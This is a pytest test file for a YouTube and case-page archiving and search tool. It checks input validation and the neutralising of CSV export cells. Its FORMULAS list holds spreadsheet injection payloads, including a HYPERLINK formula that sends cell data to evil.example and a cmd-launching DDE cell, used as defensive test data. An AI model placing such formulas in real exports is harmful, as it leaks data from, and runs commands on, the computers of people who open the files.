"""Every value is checked where it enters: a bad API value, date or answer is one failed item with its
reason, and neither the harvest nor any later `index` stops for it."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from archive.case_parser import parse_date
from archive.runs import last_run
from archive.store import open_store
from archive.validate import InvalidValue, count, timestamp
from archive.youtube import NS_VIDEO
from index.cli import cli
from index.services.demo import sample_root
from index.services.export import FORMULA_STARTS, to_csv
from tests.conftest import SEED_CHANNEL
from tests.fake_youtube import FakeChannel, FakeYouTube

HUGE = "9" * 5000  # more digits than Python converts to an int at all


def run(*args: str) -> tuple[int, str]:
    if args == ("harvest", "youtube"):
        args += ("--channel", SEED_CHANNEL)
    done = CliRunner().invoke(cli, list(args))
    return done.exit_code, done.output


def test_bad_values_from_the_api_are_failed_items_and_the_index_builds(
        youtube_env: FakeYouTube, seed_channel: FakeChannel, data_dir: Path) -> None:
    seed_channel.videos[0].bad = {"statistics": {"viewCount": HUGE}}
    seed_channel.videos[1].bad = {"snippet": {"title": 12345}}
    seed_channel.videos[2].bad = {"snippet": {"publishedAt": "2014-13-99T10:00:00Z"}}
    code, output = run("harvest", "youtube")
    assert code == 1, output
    assert "video vid00000120: not archived: statistics.viewCount is not a count from 0 to " in output
    assert "video vid00000119: not archived: snippet.title is not text (int)" in output
    assert "video vid00000118: not archived: snippet.publishedAt is not a date: '2014-13-99T10:00:00Z'" in output
    assert "Traceback" not in output
    with open_store(data_dir) as store:
        assert store.count(NS_VIDEO) == 117
    code, output = run("index")
    assert code == 0, output
    code, output = run("search", "impressie", "--format", "json")
    assert code == 0 and json.loads(output)["total"] == 117


def test_bad_items_archived_before_they_were_checked_are_left_out_of_every_index(
        youtube_env: FakeYouTube, seed_channel: FakeChannel, data_dir: Path) -> None:
    assert run("harvest", "youtube")[0] == 0
    with open_store(data_dir) as store:  # as an older version archived them, unchecked
        for video_id, part, bad in (("vid00000120", "statistics", {"viewCount": HUGE}),
                                    ("vid00000119", "snippet", {"title": ["not", "text"]}),
                                    ("vid00000118", "snippet", {"publishedAt": "2014-13-99T10:00:00Z"})):
            resource = store.read_json(store.latest(NS_VIDEO, video_id))
            resource[part].update(bad)
            store.put(NS_VIDEO, video_id, json.dumps(resource).encode(), content_type="application/json")
    for args in (("index",), ("index",), ("index", "--rebuild")):  # and every later build
        code, output = run(*args)
        assert code == 1, output
        assert "Traceback" not in output
        failures = last_run(data_dir)["failures"]
        assert sorted(f.split(":")[0] for f in failures) == [
            "video vid00000118", "video vid00000119", "video vid00000120"]
    code, output = run("search", "impressie", "--format", "json")
    assert code == 0 and json.loads(output)["total"] == 117


def test_a_200_answer_with_broken_json_is_a_failed_channel_and_the_run_goes_on(
        youtube_env: FakeYouTube, seed_channel: FakeChannel, data_dir: Path) -> None:
    youtube_env.answer_raw("videos.list", b'{"kind": "youtube#videoListResponse", "items": [{"id": ')
    code, output = run("harvest", "youtube")
    assert code == 1, output
    assert "YouTube API videos.list: the answer is not valid JSON" in output and "Traceback" not in output
    code, output = run("harvest", "youtube")  # the next run completes what was left
    assert code == 0, output
    with open_store(data_dir) as store:
        assert store.count(NS_VIDEO) == 120


def test_an_answer_of_the_wrong_shape_is_a_failed_channel(
        youtube_env: FakeYouTube, seed_channel: FakeChannel) -> None:
    youtube_env.answer_raw("playlistItems.list", b'{"items": "none"}')
    code, output = run("harvest", "youtube")
    assert code == 1 and "the answer is not a list response: its items are not a list of objects" in output


@pytest.mark.parametrize("value", ["2014-13-99", "2014-02-30T10:00:00Z", "2014-01-01T25:00:00Z", "13 maart 2014",
                                   "", 2014, None])
def test_timestamps_off_the_calendar_are_invalid(value: object) -> None:
    if value is None:
        assert timestamp(value, "d") is None
        return
    with pytest.raises(InvalidValue):
        timestamp(value, "d")


@pytest.mark.parametrize("value,expected", [("0", 0), ("18446744073709551615", 2 ** 64 - 1), (7, 7), (None, None)])
def test_counts_in_range_are_read(value: object, expected: int | None) -> None:
    assert count(value, "n") == expected


@pytest.mark.parametrize("value", [HUGE, "18446744073709551616", "-1", "1e3", "٣", True, 1.5, []])
def test_counts_out_of_range_or_of_another_type_are_invalid(value: object) -> None:
    with pytest.raises(InvalidValue):
        count(value, "n")


def test_a_date_off_the_calendar_on_a_case_page_is_no_date() -> None:
    assert parse_date("2014-13-99") is None and parse_date("31 februari 2014") is None
    assert parse_date("2014-02-28") == "2014-02-28" and parse_date("4 september 2012") == "2012-09-04"


@pytest.mark.parametrize("value,shown", [("2014-13-99", "2014-13-99"), ("2014-02-30T10:00:00Z", "2014-02-30T10:00:00Z"),
                                         ("2013-11-27T13:45:00Z", "27 november 2013"), ("2013", "2013")])
def test_the_pages_show_a_date_off_the_calendar_as_it_is_instead_of_failing(value: str, shown: str) -> None:
    from index.web.dutch import nl_date

    assert nl_date(value) == shown


def test_an_archive_with_nothing_indexable_gives_an_empty_index_and_says_so(data_dir: Path) -> None:
    with open_store(data_dir) as store:  # a crawl that found only robots.txt
        store.put("site.robots", "http://127.0.0.1:1", b"User-agent: *\nDisallow: /\n",
                  url="http://127.0.0.1:1/robots.txt", status=200, content_type="text/plain")
    done = CliRunner().invoke(cli, ["--data", str(data_dir), "index"])
    assert done.exit_code == 0, done.output
    assert "the index is empty. Harvest first" in done.stderr and "0 units" in done.stdout
    done = CliRunner().invoke(cli, ["--data", str(data_dir), "search", "taakroulatie"])
    assert done.exit_code == 0 and "0 results" in done.stdout


def test_a_caption_hour_of_400_digits_is_one_failed_file_and_the_rest_are_imported(
        tmp_path: Path, data_dir: Path) -> None:
    folder = tmp_path / "captions"
    shutil.copytree(sample_root() / "captions", folder)
    (folder / "nRH9ucAUsdM.nl.vtt").write_text(
        f"WEBVTT\n\n00:00:01.000 --> {'9' * 400}:00:02.000\nwerkoverleg\n", encoding="utf-8")
    (folder / "lHUvTCQCyEZ.nl.vtt").write_text(
        f"WEBVTT\n\n{'1' * 5000}:00:01.000 --> {'1' * 5000}:00:02.000\nwerkoverleg\n", encoding="utf-8")
    done = CliRunner().invoke(cli, ["--data", str(data_dir), "harvest", "transcripts", "--from", str(folder)])
    assert done.exit_code == 1, done.output
    failed = sorted(line for line in done.stderr.splitlines() if line.startswith("failed:"))
    assert len(failed) == 2 and all("a cue's time is out of range" in line for line in failed), failed
    assert "Traceback" not in done.output
    run_log = last_run(data_dir)
    assert run_log is not None and run_log["totals"]["new"] == 4


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_exported_csv_cells_that_start_like_a_formula_are_neutralised(
        youtube_env: FakeYouTube, seed_channel: FakeChannel) -> None:
    for video, title in zip(seed_channel.videos, FORMULAS):
        video.title = title + " impressie"
    assert run("harvest", "youtube")[0] == 0 and run("index")[0] == 0
    done = CliRunner().invoke(cli, ["search", "impressie", "--format", "csv", "--limit", "200"])
    assert done.exit_code == 0, done.output
    assert all(line.startswith("# ") for line in done.stdout.split("\n")[:4])
    rows = list(csv.DictReader(io.StringIO(done.stdout.split("\n", 4)[4], newline="")))
    titles = {row["title"] for row in rows}
    assert {"'" + f + " impressie" for f in FORMULAS[:4]} <= titles  # (the index trims leading space)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.text(max_size=20))
@settings(deadline=None, max_examples=200)
def test_no_csv_cell_or_header_line_can_start_a_formula(cells: list[str], query: str) -> None:
    result = {"kind": "case", "title": cells[0], "url": cells[-1], "companies": cells, "snippet": query}
    out = to_csv({"query": query, "results": [result], "total": 1})
    lines = out.splitlines(keepends=True)
    assert all(line.startswith("# ") for line in lines[:4])
    rows = list(csv.reader(io.StringIO("".join(lines[4:]), newline="")))
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_an_uploads_list_entry_of_the_wrong_shape_is_skipped_and_listed(
        youtube_env: FakeYouTube, seed_channel: FakeChannel) -> None:
    page = {"kind": "youtube#playlistItemListResponse", "pageInfo": {"totalResults": 3, "resultsPerPage": 50},
            "items": [{"id": "a", "snippet": {"title": 5}, "contentDetails": {"videoId": "vid00000001"}},
                      {"id": "b", "contentDetails": {"videoId": {"not": "an id"}}},
                      {"id": "c", "snippet": {"title": "Goed"}, "contentDetails": {"videoId": "vid00000002"}}]}
    youtube_env.answer_raw("playlistItems.list", json.dumps(page).encode())
    code, output = run("harvest", "youtube")
    assert code == 1 and "Traceback" not in output, output
    assert "an uploads list entry is skipped: snippet.title is not text (int)" in output
    assert "an uploads list entry is skipped: the playlist item's videoId is not an id: \"{'not': 'an id'}\"" in output
    with open_store(Path(os.environ["CASEARCHIVE_DATA"])) as store:
        assert store.latest(NS_VIDEO, "vid00000002") is not None
